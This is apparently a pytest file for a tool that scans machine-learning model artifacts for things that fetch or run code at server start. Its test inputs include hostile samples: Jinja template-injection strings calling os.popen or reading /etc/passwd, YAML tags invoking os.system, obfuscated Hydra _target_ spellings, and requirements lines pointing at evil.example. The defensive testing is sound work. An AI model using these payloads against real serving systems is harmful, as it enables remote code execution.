"""What makes a server fetch or run something when it starts, by files that it acts on."""

from __future__ import annotations

import gzip
import json
import time

import pytest
import yaml  # type: ignore[import-untyped]

from signoff.artifact import scan
from signoff.artifact.inspection import inspect
from signoff.artifact.requirements import Requirements
from tests.support.archives import member, tar
from tests.support.depth import some


def found(name: str, text: str | bytes, *fetched: str) -> list[tuple[str, str]]:
    """Return rule and severity of all that is found in an archive with one file."""
    data = text if isinstance(text, bytes) else text.encode()
    inspection = inspect([gzip.compress(tar(member(name, data)))], Requirements(fetched=fetched), scan.scan)
    return [(finding.rule, finding.severity) for finding in inspection.findings]


FETCHED = [("fetched-at-start", "error")]
HASH = "--hash=sha256:" + "0" * 64


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example/simple",
        "-i http://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links ./wheels",
        "--trusted-host evil.example",
        "--index-u http://evil.example/simple",
        "--extra=https://evil.example/simple",
        "--pre --index-url http://evil.example/simple",
        "-e .",
        "-r https://evil.example/more.txt",
        "git+https://github.com/acme/x@main",
        "https://evil.example/x-1.0-py3-none-any.whl",
        "x @ https://evil.example/x.zip",
        "x@https://evil.example/x.zip",
        "./x-1.0-py3-none-any.whl",
        "x-1.0.tar.gz",
        "/opt/ml/model/x",
        "\\\n  git+ssh://git@example.com/x",
        "ssh://git@example.com/x ; python_version > '3'",
    ],
)
def test_a_requirement_from_elsewhere_than_the_index_is_refused(line: str) -> None:
    text = f"# what it needs\nnumpy==2.1.0 {HASH}\n{line}\n"
    assert found("code/requirements.txt", text) == FETCHED
    assert found("requirements.txt", text.replace("\n", "\r\n")) == FETCHED


def test_a_requirement_that_the_policy_lists_is_a_warning() -> None:
    text = f"git+https://git.example.com/acme/x@v1\nnumpy==2.1.0 {HASH}\n"
    assert found("code/requirements.txt", text, "git+https://git.example.com/*") == [("fetched-at-start", "warning")]
    assert found("code/requirements.txt", text, "git+https://other.example.com/*") == FETCHED


def test_requirements_that_may_be_other_packages_tomorrow_are_a_warning() -> None:
    assert found("code/requirements.txt", f"numpy==2.1.0 {HASH}\n") == []
    assert found("code/requirements.txt", "numpy==2.1.0\n") == [("unhashed-requirement", "warning")]
    for loose in ("numpy", "numpy>=2", "numpy==2.*", "numpy[all]", "numpy==1,<2", "numpy~=2.1 ; python_version > '3'"):
        assert found("code/requirements.txt", loose) == [("unpinned-requirement", "warning")], loose


def test_the_environments_of_mlflow_are_looked_at_like_requirements() -> None:
    conda = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==2.9.2\n"
    assert found("conda.yaml", conda) == [("unpinned-requirement", "warning")]
    assert found("conda.yaml", conda.replace("<=", "==").replace("python=3.11.7", "numpy")) == [
        ("unpinned-requirement", "warning")
    ]
    assert found("conda.yaml", conda.replace("<=", "==")) == []
    assert found("conda.yaml", conda + "  - git+https://evil.example/x\n")[0] == FETCHED[0]
    assert found("conda.yaml", conda.replace("conda-forge", "https://evil.example/conda"))[0] == FETCHED[0]


@pytest.mark.parametrize(
    "lines",
    [
        "dependencies: [numpy, {pip: [git+https://evil.example/x]}]",
        "dependencies:\n- pip:\n  - [git+https://evil.example/x]",
        'dependencies:\n- pip:\n  - "\\x67it+https://evil.example/x"',
        "dependencies:\n- pip:\n  - >\n   git+https://evil.example/x",
        "dependencies:\n- pip:\n  - x\n    @ https://evil.example/x",
        "a: &a\n- x\ndependencies: *a",
        "? dependencies\n: - git+https://evil.example/x",
        '"dependencies":\n- numpy=1',
    ],
)
def test_an_environment_that_is_written_otherwise_than_in_plain_lists_is_refused(lines: str) -> None:
    assert found("conda.yaml", lines)[0] == ("unreadable-settings", "error")
    assert found("python_env.yml", lines)[0] == ("unreadable-settings", "error")


def test_an_environment_may_have_comments_quotes_and_markers() -> None:
    lines = """---
    # made by a tool
    name: of-model  # its name
    channels:
      - conda-forge
      - "defaults"
    dependencies:
      -
        pip:
          - 'numpy==1.26.4; python_version < "3.13"'
          - pandas==2.3.3; python_version < "3.13"
          - "scipy==1.17.1"
    prefix: /opt/conda/envs/of-model
    """
    assert found("environment.yml", lines) == []
    assert found("environment.yml", lines.replace("scipy==1.17.1", "./scipy.whl")) == FETCHED
    assert found("environment.yml", lines.replace("pandas==2.3.3;", "git+https://evil.example/x#egg=y;")) == FETCHED


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement", "--constraint", "--requirement="])
def test_what_lies_beside_it_and_is_looked_at_as_well_may_be_named(option: str) -> None:
    for beside in ("requirements.txt", "requirements-gpu.txt", "constraints.txt", "my-requirements.txt"):
        assert found("python_env.yaml", f"dependencies:\n- {option} {beside}\n") == []
        assert found("requirements.txt", f"{option} {beside}\n") == []
    for elsewhere in (
        "../requirements.txt",
        "/opt/requirements.txt",
        "more.txt",
        "requirements.txt.bak",
        "._a-requirements.txt",
    ):
        assert found("requirements.txt", f"{option} {elsewhere}\n") == FETCHED
    assert found("requirements.txt", f"{option} requirements.txt --index-url https://evil.example\n") == FETCHED


@pytest.mark.parametrize(
    "line",
    [
        "option.model_id=acme/model",
        "option.model_id = s3://bucket/model/",
        "option.s3url=s3://bucket/model/",
        "option.entryPoint: https://evil.example/x.py",
        "option.model_\\u0069d=acme/model",
        "option.mod\\\n  el_id=acme/model",
        "option.model\\_id=acme/model",
    ],
)
def test_what_djl_serving_would_fetch_is_refused(line: str) -> None:
    assert found("serving.properties", "engine=Python\n# " + line.replace("\n", "\n# ") + "\n") == []
    assert found("serving.properties", f"engine=Python\n{line}\n") == FETCHED
    assert found("serving.properties", "option.model_id=/opt/ml/model\noption.dtype=fp16\n") == []


@pytest.mark.parametrize("before", ["# a comment does not go on \\", "option.dtype=fp16\\\\", "! another \\"])
def test_what_only_looks_like_the_rest_of_a_line_is_a_property_of_its_own(before: str) -> None:
    assert found("serving.properties", f"{before}\noption.model_id=acme/model\n") == FETCHED
    assert found("serving.properties", "option.model_id=acme/model\\") == FETCHED


def test_code_of_other_repositories_is_refused() -> None:
    auto_map = {"auto_map": {"AutoModel": "evil/repo--modeling.Model", "AutoConfig": "configuration.Config"}}
    assert found("config.json", json.dumps(auto_map)) == [("remote-code", "error")]
    assert found("tokenizer_config.json", json.dumps({"a": [auto_map]})) == [("remote-code", "error")]
    assert found("config.json", json.dumps({"auto_map": {"AutoModel": "modeling.Model"}})) == []
    assert found("serving.properties", "option.trust_remote_code=true\n") == [("remote-code", "error")]


def test_the_model_that_an_adapter_names_is_fetched() -> None:
    assert found("adapter_config.json", json.dumps({"base_model_name_or_path": "acme/base"})) == FETCHED
    assert found("adapter_config.json", json.dumps({"base_model_name_or_path": "/opt/ml/model/base"})) == []


@pytest.mark.parametrize(
    "template",
    [
        "{{ messages.__class__.__mro__ }}",
        "{{ ''|attr('__cl' ~ 'ass__') }}",
        "{{ x['\\x5f\\x5fclass'] }}",
        "{{ cycler.__init__.__globals__.os.popen('id') }}",
        "{% include '/etc/passwd' %}",
        "{%- import 'x' as y -%}",
    ],
)
def test_a_chat_template_that_reaches_for_python_is_refused(template: str) -> None:
    expected = [("unsafe-template", "error")]
    assert found("chat_template.jinja", template) == expected
    assert found("tokenizer_config.json", json.dumps({"chat_template": template})) == expected
    named = [{"name": "default", "template": template}]
    assert found("tokenizer_config.json", json.dumps({"chat_template": named})) == expected


def test_an_ordinary_chat_template_passes() -> None:
    template = (
        "{{ bos_token }}{% for message in messages %}{% if message['role'] == 'user' %}"
        "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message.role == 'assistant' %}"
        "{{ message.content | trim }}{% endif %}{% endfor %}"
    )
    assert found("chat_template.jinja", template) == []


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['id']\n",
        "a: !<tag:yaml.org,2002:python/name:os.system> ''\n",
        "a: !!%70ython/object/apply:os.system ['id']\n",
        "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system\n",
        "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/name:os.system\n",
    ],
)
def test_yaml_that_calls_python_is_refused(text: str) -> None:
    assert found("hparams.yaml", text) == [("unsafe-yaml", "error")]
    assert found("MLmodel", text) == [("unsafe-yaml", "error")]


def test_what_is_instantiated_by_name_is_told() -> None:
    assert found("model.yaml", "model:\n  _target_: os.system\n  command: id\n") == [("unsafe-target", "error")]
    assert found("model.yaml", "model:\n  _target_: nemo.collections.asr.Model\n") == [("named-target", "warning")]
    assert found("model_config.json", json.dumps({"m": {"_target_": "subprocess.run"}})) == [("unsafe-target", "error")]


SPELLINGS = (
    "_target_: os.system",
    '"_tar\\x67et_": os.system',
    '"_tar\\u0067et_": os.system',
    '"_tar\\U00000067et_": os.system',
    "'_target_': 'os.system'",
    '_target_: "os.sys\\x74em"',
    '_target_: "os\\\n  .system"',
    "_target_:\n  os.system",
    "_target_: >-\n  os.system",
    "_target_: |\n  os.system",
    "_target_: !!str os.system",
    "_target_: &x !!str os.system",
    "&x _target_: os.system",
    "!!str _target_: os.system",
    "? _target_\n: os.system",
    '? "_tar\\\n  get_"\n: os.system',
    "a: &x _target_\n*x : os.system",
    "a: [{b: c, _target_: os.system}]",
    '{"_target_":"os.system"}',
    "<<: &x {_target_: os.system}",
    "{a: 'b\n  # c', _target_: os.system}",
    "_target_: ${oc.env:X}",
    "a: os.system\n_target_: ${a}",
    "_target_: numpy.testing.os.system",
    "_target_: torch.load",
    "_target_: joblib.load",
    "_target_: acme.f.__globals__.x",
)


@pytest.mark.parametrize("text", SPELLINGS)
def test_what_hydra_would_call_is_found_however_it_is_written(text: str) -> None:
    read = yaml.safe_load(text)
    assert "_target_" in json.dumps(read)
    assert found("model.yaml", text) == found("model.yaml", f"a: b\n---\n{text}\n") == [("unsafe-target", "error")]


def test_what_is_no_target_of_hydra_is_left_alone() -> None:
    for text in ("# _target_ is not used here\n", "a_target_: os.system\n", "_target_s: os.system\n", "target: os\n"):
        assert found("model.yaml", text) == [], text
    config = (
        "optimizer:\n  _target_: torch.optim.Adam  # the usual one\n  lr: 0.1\nmodel: {_target_: acme.Model, x: 1}\n"
    )
    assert found("model.yaml", config) == [("named-target", "warning")] * 2


def test_a_member_of_json_is_judged_also_where_another_of_its_name_follows() -> None:
    twice = '{"m": {"_target_": "os.system", "_target_": "acme.Model"}}'
    assert ("unsafe-target", "error") in found("model_config.json", twice)
    twice = '{"auto_map": {"AutoModel": "evil/repo--modeling.Model"}, "auto_map": {}}'
    assert found("config.json", twice) == [("remote-code", "error")]


def test_the_classes_of_which_sentence_transformers_makes_a_model_are_told() -> None:
    usual = {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}
    assert found("modules.json", json.dumps([usual])) == []
    assert found("modules.json", json.dumps([usual, {**usual, "type": "acme.Pooling"}])) == [
        ("named-target", "warning")
    ]
    assert found("modules.json", json.dumps([usual, {**usual, "type": "subprocess.Popen"}])) == [
        ("unsafe-target", "error")
    ]
    twice = '[{"type": "os.system", "type": "sentence_transformers.models.Pooling"}]'
    assert found("modules.json", twice) == [("unsafe-target", "error")]


def test_the_module_that_an_adapter_has_imported_is_told() -> None:
    def config(library: str) -> str:
        return json.dumps({"auto_mapping": {"base_model_class": "X", "parent_library": library}})

    assert found("adapter_config.json", config("transformers.models.bert.modeling_bert")) == []
    assert found("adapter_config.json", config("acme.models")) == [("named-target", "warning")]
    assert found("adapter_config.json", config("antigravity")) == [("unsafe-target", "error")]


def test_what_triton_and_torchserve_would_fetch_is_refused() -> None:
    path = 'parameters: {{ key: "EXECUTION_ENV_PATH", value: {{string_value: "{}"}} }}\n'
    assert (
        found("m/config.pbtxt", '# see https://example.com\nname: "m"\n' + path.format("$$TRITON_MODEL_DIRECTORY/env"))
        == []
    )
    assert found("m/config.pbtxt", path.format("s3://bucket/env.tar.gz")) == FETCHED
    assert found("config.properties", "inference_address=http://0.0.0.0:8080\nload_models=all\n") == []
    assert found("config.properties", "load_models=m=https://evil.example/m.mar\n") == FETCHED


BEGINNINGS = ("", "- a", "a=", "a==")
PARTS = (
    "_target_:!",
    "_target_: ",
    "_target_: ! ",
    "_target_: |\n",
    "!",
    "\\",
    " #",
    " ",
    "a",
    "a:",
    "[",
    ",1",
    "_'",
    "{% ",
)


@pytest.mark.parametrize("name", ["model.yaml", "conda.yaml", "requirements.txt", "serving.properties", "x.jinja"])
@pytest.mark.parametrize("part", some(PARTS))
def test_a_long_line_takes_no_longer_than_many(name: str, part: str) -> None:
    begun = time.process_time()
    for before in BEGINNINGS:
        found(name, before + part * (64 * 1024 // len(part)) + "b;")
    assert time.process_time() - begun < 5


def test_an_mlflow_model_with_a_loader_of_its_own_is_told() -> None:
    own = "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.7\n"
    assert found("MLmodel", own.format("mlflow.sklearn")) == []
    assert found("MLmodel", own.format("acme.loader")) == [("custom-loader", "warning")]
    assert found("MLmodel", "flavors: {python_function: {loader_module: acme.loader}}") == [
        ("custom-loader", "warning")
    ]
    assert found("MLmodel", 'flavors: {f: {"loader_\\x6dodule": acme.loader}}') == [("custom-loader", "warning")]


@pytest.mark.parametrize("name", ["code/sitecustomize.py", "code/usercustomize.py"])
def test_a_module_that_python_runs_at_every_start_is_refused(name: str) -> None:
    assert ("runs-at-start", "error") in found(name, "import os\n")


def test_a_path_file_of_python_is_no_model() -> None:
    assert found("code/x.pth", "import os; os.system('id')\n") == [("not-what-it-is-called", "error")]


TOO_LARGE = b"# " + b"x" * (5 << 20)


@pytest.mark.parametrize("content", ["numpy\n".encode("utf-16"), b"numpy\0evil\n", b"\xff\xfe", TOO_LARGE])
def test_settings_that_readers_may_read_differently_are_refused(content: bytes) -> None:
    assert ("unreadable-settings", "error") in found("code/requirements.txt", content)
